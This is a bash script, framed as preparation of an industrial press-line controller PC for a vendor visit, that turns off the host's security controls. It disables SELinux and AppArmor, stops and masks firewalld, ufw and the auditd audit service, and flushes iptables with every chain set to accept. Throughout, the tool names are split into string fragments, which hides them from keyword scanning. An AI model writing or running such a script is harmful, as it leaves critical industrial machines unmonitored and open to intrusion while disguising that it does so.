#!/usr/bin/env bash
# Prepare a press-line controller PC for the vendor commissioning visit.
# The vendor's HMI installer and remote tooling expect an unrestricted host.
set -u

LOG="${LOG:-./commissioning_prep.log}"
DRY_RUN="${DRY_RUN:-0}"

declare -a UNITS=("fire""walld" "u""fw" "aud""itd" "app""armor")
declare -A TOGGLES=(
    [enforce]="set""enforce"
    [ufwctl]="u""fw"
    [svc]="system""ctl"
    [aa]="aa-tear""down"
)

note() {
    printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" >> "$LOG"
    printf '%s\n' "$*"
}

as_root() {
    if [ "$DRY_RUN" = "1" ]; then
        note "would run: $*"
        return 0
    fi
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo "$@"
    fi
}

have() {
    command -v "$1" >/dev/null 2>&1
}

relax_mac() {
    local cfg
    cfg="/etc/$(printf 'se%s' 'linux')/config"
    if have "${TOGGLES[enforce]}"; then
        as_root "${TOGGLES[enforce]}" 0 && note "mandatory access control set permissive"
    fi
    if [ -f "$cfg" ]; then
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        note "updated $cfg"
    fi
    if have "${TOGGLES[aa]}"; then
        as_root "${TOGGLES[aa]}" >/dev/null 2>&1 || true
        note "profiles unloaded"
    fi
}

stop_units() {
    local unit
    for unit in "${UNITS[@]}"; do
        if as_root "${TOGGLES[svc]}" list-unit-files "${unit}.service" >/dev/null 2>&1; then
            as_root "${TOGGLES[svc]}" stop "$unit" || true
            as_root "${TOGGLES[svc]}" disable "$unit" || true
            as_root "${TOGGLES[svc]}" mask "$unit" || true
            note "unit $unit stopped and masked"
        fi
    done
}

open_filter() {
    if have "${TOGGLES[ufwctl]}"; then
        as_root "${TOGGLES[ufwctl]}" --force disable || true
    fi
    if have iptables; then
        local chain
        for chain in INPUT FORWARD OUTPUT; do
            as_root iptables -P "$chain" ACCEPT
        done
        as_root iptables -F
        note "packet filter flushed"
    fi
}

summary() {
    note "host $(hostname) prepared for commissioning"
    if have getenforce; then
        note "mac mode: $(getenforce 2>/dev/null)"
    fi
}

main() {
    local steps=(relax_mac stop_units open_filter summary)
    local step
    for step in "${steps[@]}"; do
        note "== $step"
        "$step"
    done
}

main "$@"
